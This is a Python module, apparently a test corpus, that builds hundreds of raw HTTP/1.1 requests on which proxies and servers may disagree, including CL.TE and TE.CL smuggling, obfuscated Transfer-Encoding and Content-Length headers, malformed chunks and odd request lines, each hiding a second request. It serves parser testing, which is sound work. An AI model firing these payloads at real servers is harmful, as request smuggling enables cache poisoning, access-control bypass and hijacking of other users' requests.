"""Requests that proxies and servers have read differently: well-formed, odd and malformed ones, as bytes.

Each case has a name, and {n} in it becomes a number of its own, so that whoever sees a request knows which case it came
from: /c{n} is the request that is meant, /smuggled{n} is what an attacker hides in its body or behind it.
"""

HIDDEN = "GET /smuggled{n} HTTP/1.1\r\nHost: h\r\nX: y\r\n\r\n"


def post(*fields, body=""):
    return "POST /c{n} HTTP/1.1\r\nHost: h\r\n" + "".join(field + "\r\n" for field in fields) + "\r\n" + body


def get(target="/c{n}", *fields, version="HTTP/1.1", host="Host: h\r\n", method="GET"):
    return f"{method} {target} {version}\r\n{host}" + "".join(field + "\r\n" for field in fields) + "\r\n"


def chunked(body, *trailers):
    return f"{len(body):x}\r\n{body}\r\n0\r\n" + "".join(t + "\r\n" for t in trailers) + "\r\n"


HIDDEN_LENGTH = len(HIDDEN.replace("{n}", "000"))
CASES = {}


def add(name, text):
    assert name not in CASES, name
    CASES[name] = text


# Two lengths: one of both ends the request elsewhere.
add("CL.TE", post("Content-Length: 6", "Transfer-Encoding: chunked", body="0\r\n\r\n" + HIDDEN))
add("TE.CL", post("Transfer-Encoding: chunked", "Content-Length: 4", body=chunked(HIDDEN.replace("{n}", "{n}"))))
for i, line in enumerate(("Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding:\x0bchunked",
                          "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
                          "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
                          "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'",
                          "Transfer-Encoding: chunked;q=1", "Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked", "Transfer-Encoding: CHUNKED",
                          "Transfer-Encoding: chunk", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: \x00chunked",
                          "Transfer-Encoding: chunked\x0c", "Transfer-Encoding:\x0cchunked", "Transfer-Encoding: \x85chunked", "Transfer-Encoding: chunked\xa0",
                          "Transfer_Encoding: chunked", "Transfer-Encoding\x00: chunked", " Transfer-Encoding: chunked", "X: y\r\n Transfer-Encoding: chunked",
                          "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "Transfer-Encoding\r\n : chunked", "Transfer-Encoding:\r\n chunked",
                          "Transfer-Encoding:chunked", "Transfer-Encoding: chunked ", "transfer-encoding: chunked", "TRANSFER-ENCODING: chunked",
                          "Transfer-Encoding:", "Transfer-Encoding: ", "X-Transfer-Encoding: chunked", "Transfer-Encoding: compress", "Transfer-Encoding: \u017fhunked")):
    add(f"TE.TE {i} {line!r}", post(line, body="0\r\n\r\n" + HIDDEN))
    add(f"CL and TE {i} {line!r}", post("Content-Length: 5", line, body="0\r\n\r\n" + HIDDEN))
for i, line in enumerate(("Content-Length: 0\r\nContent-Length: {l}", "Content-Length: {l}\r\nContent-Length: 0", "Content-Length: {l}\r\nContent-Length: {l}",
                          "Content-Length: 0, {l}", "Content-Length: {l}, {l}", "Content-Length: +{l}", "Content-Length: -1", "Content-Length: 0x10",
                          "Content-Length: {l}a", "Content-Length: {l} 1", "Content-Length: 00{l}", "Content-Length:", "Content-Length: ''", "Content-Length: 1e1",
                          "Content-Length: 18446744073709551616", "Content-Length: 99999999999999999999999999", "Content-Length: {l}.0", "Content-Length: \x0b{l}",
                          "Content-Length : {l}", "Content-Length\t: {l}", "Content_Length: {l}", "content-length: {l}", "Content-Length:\r\n {l}",
                          "X: y\nContent-Length: {l}", "Content-Length: {l}\x00", "Content-Length: \xb2")):
    add(f"length {i} {line!r}", post(line.replace("{l}", str(HIDDEN_LENGTH)), body=HIDDEN))
add("CL.0 of GET", get("/c{n}", f"Content-Length: {HIDDEN_LENGTH}") + HIDDEN)
add("CL.0 of HEAD", get("/c{n}", f"Content-Length: {HIDDEN_LENGTH}", method="HEAD") + HIDDEN)
add("CL.0 of DELETE", get("/c{n}", f"Content-Length: {HIDDEN_LENGTH}", method="DELETE") + HIDDEN)
add("chunked GET", get("/c{n}", "Transfer-Encoding: chunked") + chunked(HIDDEN.replace("{n}", "000")))
add("GET without a body, then another", get() + HIDDEN)
add("two in one packet", post("Content-Length: 2", body="ab") + HIDDEN)
# Chunks.
for i, body in enumerate(("0x2\r\nab\r\n0\r\n\r\n", "+2\r\nab\r\n0\r\n\r\n", "-2\r\nab\r\n0\r\n\r\n", "2 \r\nab\r\n0\r\n\r\n", " 2\r\nab\r\n0\r\n\r\n", "2;a=b\r\nab\r\n0\r\n\r\n",
                          "2;a=\"\r\nab\r\n0\r\n\r\n", "2;\nab\r\n0\r\n\r\n", "2\nab\r\n0\r\n\r\n", "2\r\nab\n0\r\n\r\n", "2\r\nabX\r\n0\r\n\r\n", "2\r\nab0\r\n\r\n", "3\r\nab\r\n0\r\n\r\n",
                          "2_0\r\nab\r\n0\r\n\r\n", "g\r\nab\r\n0\r\n\r\n", "\r\n2\r\nab\r\n0\r\n\r\n", "00002\r\nab\r\n000\r\n\r\n", "ffffffffffffffff\r\nab\r\n0\r\n\r\n",
                          "10000000000000002\r\nab\r\n0\r\n\r\n", "2\r\nab\r\n0\r\nContent-Length: 5\r\n\r\n", "2\r\nab\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
                          "2\r\nab\r\n0\r\nX: y\r\n\r\n", "2\r\nab\r\n0\r\nHost: other\r\n\r\n", "2\r\nab\r\n0\n\n", "2\r\nab\r\n0\r\n\n", "0\r\nX\r\n\r\n", "2\r\nab\r\n0\r\n X: y\r\n\r\n",
                          "2;a=b;c=\"d\"\r\nab\r\n0;e\r\n\r\n", "2\x00\r\nab\r\n0\r\n\r\n", "2\r\rab\r\n0\r\n\r\n")):
    add(f"chunks {i} {body!r}", post("Transfer-Encoding: chunked", body=body + HIDDEN))
add("chunked in HTTP/1.0", "POST /c{n} HTTP/1.0\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked("ab") + HIDDEN)
add("chunked, kept alive, in HTTP/1.0", "POST /c{n} HTTP/1.0\r\nHost: h\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked("ab") + HIDDEN)
add("length in HTTP/1.0", "POST /c{n} HTTP/1.0\r\nHost: h\r\nContent-Length: 2\r\n\r\nab")
# Request lines.
for i, line in enumerate(("GET  /c{n} HTTP/1.1", "GET /c{n}  HTTP/1.1", " GET /c{n} HTTP/1.1", "GET\t/c{n}\tHTTP/1.1", "GET /c{n} HTTP/1.2", "GET /c{n} HTTP/2.0", "GET /c{n} http/1.1",
                          "GET /c{n} HTTP/1.1 ", "GET /c{n} HTTP/01.1", "GET /c{n}\x00 HTTP/1.1", "GET /c{n}", "get /c{n} HTTP/1.1", "G\x00T /c{n} HTTP/1.1", "GET /c{n}\xff HTTP/1.1",
                          "GET /c{n} x HTTP/1.1", "GET c{n} HTTP/1.1", "GET http://h/c{n} HTTP/1.1", "GET http://other/c{n} HTTP/1.1", "GET http://h@other/c{n} HTTP/1.1",
                          "GET //other/c{n} HTTP/1.1", "GET /a/../c{n} HTTP/1.1", "GET /a/%2e%2e/c{n} HTTP/1.1", "GET /a%2fc{n} HTTP/1.1", "GET /c{n}#part HTTP/1.1",
                          "GET /c{n}?a=b%0d%0aX:%20y HTTP/1.1", "GET /c{n}%00 HTTP/1.1", "GET /c{n}\\x HTTP/1.1", "OPTIONS * HTTP/1.1", "CONNECT h:80 HTTP/1.1",
                          "TRACE /c{n} HTTP/1.1", "PURGE /c{n} HTTP/1.1", "GET /c{n}/" + "a" * 4000 + " HTTP/1.1", "PRI * HTTP/2.0")):
    add(f"line {i} {line[:60]!r}", line + "\r\nHost: h\r\n\r\n")
# Hosts and fields.
for i, fields in enumerate(("", "Host: h\r\nHost: h\r\n", "Host: h\r\nHost: other\r\n", "Host: h, other\r\n", "Host: h/x\r\n", "Host: h other\r\n", "Host:\r\n", "Host : h\r\n",
                            "Host: h:80\r\n", "Host: h:x\r\n", "Host: H\r\n", "Host: [::1]:80\r\n", "Host: h\x00\r\n", "host: h\r\n", "Host: h@other\r\n", "Host: h\r\n Host: other\r\n")):
    add(f"host {i} {fields!r}", "GET /c{n} HTTP/1.1\r\n" + fields + "\r\n")
for i, field in enumerate(("X", ": y", "X y: z", "X\x00: y", "X: y\x00z", "X: y\x01z", "X: y\x7fz", "X: \xe9", "X:y", "X:", "X: y\rZ: w", "X: y\nZ: w", "X: y\r\n\tz", "X(: y", "X: " + "y" * 9000,
                           "Connection: close, X-Own\r\nX-Own: 1", "Connection: Host", "Connection: Content-Length\r\nContent-Length: 0", "Expect: 100-continue", "Expect: other",
                           "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "TE: trailers, gzip", "Keep-Alive: timeout=5",
                           "Proxy-Connection: keep-alive", "X-Forwarded-For: 1.2.3.4", "Content-Length: 0", "Trailer: X")):
    add(f"field {i} {field[:40]!r}", "GET /c{n} HTTP/1.1\r\nHost: h\r\n" + field + "\r\n\r\n")
add("bare LF everywhere", "GET /c{n} HTTP/1.1\nHost: h\n\n")
add("an empty line before", "\r\n" + get())
add("two empty lines before", "\r\n\r\n" + get())
add("bare CR before", "\r" + get())
add("plain GET", get())
add("plain HEAD", get(method="HEAD"))
add("plain POST", post("Content-Length: 5", body="hello"))
add("plain chunks", post("Transfer-Encoding: chunked", body=chunked("hello")))
add("HTTP/1.0", get(version="HTTP/1.0"))
add("HTTP/1.0 without Host", get(version="HTTP/1.0", host=""))


def all_cases():
    """(number, name, bytes) of each; numbers have three digits, so that lengths stay what they are."""
    for i, (name, text) in enumerate(CASES.items()):
        yield i + 100, name, text.replace("{n}", str(i + 100)).encode("latin-1", "replace")
